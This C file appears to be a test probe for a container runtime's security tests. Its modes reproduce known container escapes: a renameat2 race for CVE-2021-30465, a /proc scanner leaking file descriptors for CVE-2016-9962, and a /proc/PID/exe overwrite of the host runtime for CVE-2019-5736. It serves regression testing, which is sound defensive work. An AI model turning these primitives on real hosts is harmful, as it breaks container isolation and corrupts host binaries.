/* SPDX-License-Identifier: Apache-2.0 */
/* What the payloads of the tests need and busybox has not: raw system calls, races, sockets. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int make_call(int count, char **words)
{
    long arguments[7] = {0};
    for (int i = 0; i < count && i < 7; i++)
        arguments[i] = strtol(words[i], NULL, 0);
    errno = 0;
    long result = syscall(arguments[0], arguments[1], arguments[2], arguments[3], arguments[4],
                          arguments[5], arguments[6]);
    printf("%d\n", result < 0 ? errno : 0);
    return 0;
}

/* Exchange two names for ever: the race of CVE-2021-30465. */
static _Noreturn void swap(const char *one, const char *other)
{
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
}

static int print_clocks(void)
{
    struct timespec monotonic, boottime;
    clock_gettime(CLOCK_MONOTONIC, &monotonic);
    clock_gettime(CLOCK_BOOTTIME, &boottime);
    printf("%ld %ld\n", (long)monotonic.tv_sec, (long)boottime.tv_sec);
    return 0;
}

static int send_text(const char *path, const char *text)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int socket_fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    if (sendto(socket_fd, text, strlen(text), 0, (struct sockaddr *)&address, sizeof address) < 0) {
        perror("sendto");
        return 1;
    }
    return 0;
}

static int print_keyring(void)
{
    char text[256] = "";
    if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof text - 1) < 0) {
        perror("keyctl");
        return 1;
    }
    puts(text);
    return 0;
}

static int is_other(const char *name)
{
    int pid = atoi(name);
    return pid > 1 && pid != getpid();
}

/* Say once what can be seen of a process that came in from outside: CVE-2016-9962. */
static void look(const char *pid, const char *name)
{
    static char seen[64][256];
    char path[320], target[256];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0)
        return;
    target[length] = 0;
    for (int i = 0; i < 64; i++) {
        if (strcmp(seen[i], target) == 0)
            return;
        if (seen[i][0] == 0) {
            strcpy(seen[i], target);
            printf("%s\n", target);
            fflush(stdout);
            return;
        }
    }
}

static void look_at_files(const char *pid)
{
    char path[320];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *files = opendir(path);
    struct dirent *file;
    while (files != NULL && (file = readdir(files)) != NULL) {
        snprintf(path, sizeof path, "fd/%s", file->d_name);
        look(pid, path);
    }
    if (files != NULL)
        closedir(files);
}

/* Open the program of a process for writing, and spoil it: CVE-2019-5736. */
static void overwrite(const char *pid)
{
    char path[320];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int read_fd = open(path, O_RDONLY | O_CLOEXEC);
    if (read_fd < 0)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", read_fd);
    for (int i = 0; i < 2000; i++) {
        int write_fd = open(path, O_WRONLY | O_CLOEXEC);
        if (write_fd < 0)
            continue;
        printf("opened %s, wrote %zd\n", pid, write(write_fd, "spoilt", 6));
        fflush(stdout);
        close(write_fd);
        break;
    }
    close(read_fd);
}

static _Noreturn void for_each_process(int spoil)
{
    puts("ready");
    fflush(stdout);
    for (;;) {
        DIR *processes = opendir("/proc");
        struct dirent *process;
        while (processes != NULL && (process = readdir(processes)) != NULL) {
            if (!is_other(process->d_name))
                continue;
            if (spoil) {
                overwrite(process->d_name);
                continue;
            }
            look(process->d_name, "exe");
            look(process->d_name, "cwd");
            look(process->d_name, "root");
            look_at_files(process->d_name);
        }
        if (processes != NULL)
            closedir(processes);
    }
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    if (strcmp(what, "syscall") == 0)
        return make_call(argc - 2, argv + 2);
    if (strcmp(what, "swap") == 0 && argc == 4)
        swap(argv[2], argv[3]);
    if (strcmp(what, "clocks") == 0)
        return print_clocks();
    if (strcmp(what, "send") == 0 && argc == 4)
        return send_text(argv[2], argv[3]);
    if (strcmp(what, "keyring") == 0)
        return print_keyring();
    if (strcmp(what, "personality") == 0)
        return printf("%x\n", (unsigned)personality(0xffffffff)) < 0;
    if (strcmp(what, "umask") == 0)
        return printf("%o\n", (unsigned)umask(0)) < 0;
    if (strcmp(what, "watch") == 0)
        for_each_process(0);
    if (strcmp(what, "spoil") == 0)
        for_each_process(1);
    fprintf(stderr, "probe: what?\n");
    return 2;
}
